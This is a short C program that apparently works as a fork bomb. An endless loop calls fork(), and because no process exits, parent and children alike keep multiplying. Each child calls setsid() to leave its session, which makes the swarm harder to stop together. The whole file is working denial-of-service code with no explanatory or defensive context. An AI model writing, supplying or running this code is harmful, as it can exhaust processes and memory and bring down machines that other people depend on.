// Forks without end, each child in a session of its own if it may.
#include <unistd.h>

int main() {
  for (;;) {
    if (fork() == 0) setsid();
  }
}
